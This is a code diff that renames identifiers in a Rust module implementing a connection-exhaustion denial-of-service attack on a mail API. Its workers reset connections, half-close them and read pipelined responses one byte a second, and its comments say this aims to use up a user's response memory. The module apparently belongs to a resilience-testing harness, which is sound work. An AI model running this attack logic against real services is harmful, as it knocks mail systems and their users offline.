@@ -7,11 +7,11 @@ use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
 use tokio::task::JoinSet;
 
 use super::connection::{head, open, open_narrow, status};
-use super::scene::Scene;
+use super::scene::AttackContext;
 
 /// Number of workers that reset, and that half-close; each opens 20 connections a second.
 const WORKERS: usize = 20;
-const PACE: Duration = Duration::from_millis(50);
+const CONNECT_INTERVAL: Duration = Duration::from_millis(50);
 
 /// Number of connections that read a byte a second: of pages, and of a large mail of each of two users. Those of one
 /// user take all the memory available for that user's responses, and those of two all that there is.
@@ -22,22 +22,22 @@ const LARGE_READERS: usize = 16;
 const PIPELINED: usize = 50;
 
 /// Runs the attack until it is over.
-pub async fn run(scene: &Arc<Scene>) -> anyhow::Result<()> {
+pub async fn run(scene: &Arc<AttackContext>) -> anyhow::Result<()> {
     let token = Some(&*scene.orders.token);
     let page = head("GET", "/mail/v1/users/me/messages?maxResults=500", token, "\r\n");
     let mut tasks = JoinSet::new();
     for _ in 0..WORKERS {
-        tasks.spawn(repeat(Arc::clone(scene), page.clone(), End::Reset));
-        tasks.spawn(repeat(Arc::clone(scene), page.clone(), End::HalfClose));
+        tasks.spawn(repeat(Arc::clone(scene), page.clone(), ConnectionEnd::Reset));
+        tasks.spawn(repeat(Arc::clone(scene), page.clone(), ConnectionEnd::HalfClose));
     }
     for _ in 0..SLOW_READERS {
-        tasks.spawn(repeat(Arc::clone(scene), page.repeat(PIPELINED), End::SlowRead));
+        tasks.spawn(repeat(Arc::clone(scene), page.repeat(PIPELINED), ConnectionEnd::SlowRead));
     }
     for (token, message) in &scene.orders.slow_readers {
         let large = format!("/mail/v1/users/me/messages/{message}?format=raw");
         let large = head("GET", &large, Some(token), "\r\n");
         for _ in 0..LARGE_READERS {
-            tasks.spawn(repeat(Arc::clone(scene), large.clone(), End::SlowRead));
+            tasks.spawn(repeat(Arc::clone(scene), large.clone(), ConnectionEnd::SlowRead));
         }
     }
     tasks.join_all().await;
@@ -46,39 +46,40 @@ pub async fn run(scene: &Arc<Scene>) -> anyhow::Result<()> {
 
 /// Action of a connection after its request.
 #[derive(Clone, Copy)]
-enum End {
+enum ConnectionEnd {
     Reset,
     HalfClose,
     SlowRead,
 }
 
 /// Opens connections one after the other until the attack is over.
-async fn repeat(scene: Arc<Scene>, request: String, end: End) {
+async fn repeat(scene: Arc<AttackContext>, request: String, end: ConnectionEnd) {
     while !scene.is_over() {
         let done = tokio::time::timeout_at(scene.until.into(), connect_once(&scene, &request, end)).await;
         if matches!(done, Ok(Err(_))) {
             scene.count("failed");
         }
-        tokio::time::sleep(PACE).await;
+        tokio::time::sleep(CONNECT_INTERVAL).await;
     }
 }
 
-async fn connect_once(scene: &Scene, request: &str, end: End) -> std::io::Result<()> {
-    let mut stream = if matches!(end, End::SlowRead) { open_narrow(scene).await? } else { open(scene).await? };
+async fn connect_once(scene: &AttackContext, request: &str, end: ConnectionEnd) -> std::io::Result<()> {
+    let mut stream =
+        if matches!(end, ConnectionEnd::SlowRead) { open_narrow(scene).await? } else { open(scene).await? };
     stream.write_all(request.as_bytes()).await?;
     match end {
-        End::Reset => {
+        ConnectionEnd::Reset => {
             // The system sends a reset instead of an orderly end.
             stream.set_zero_linger()?;
             scene.count("reset");
         }
-        End::HalfClose => {
+        ConnectionEnd::HalfClose => {
             stream.shutdown().await?;
             let mut response = Vec::new();
             stream.read_to_end(&mut response).await?;
             scene.count(&format!("half-closed {}", status(&response).as_deref().unwrap_or("closed")));
         }
-        End::SlowRead => {
+        ConnectionEnd::SlowRead => {
             let mut byte = [0];
             while stream.read(&mut byte).await? > 0 {
                 tokio::time::sleep(Duration::from_secs(1)).await;
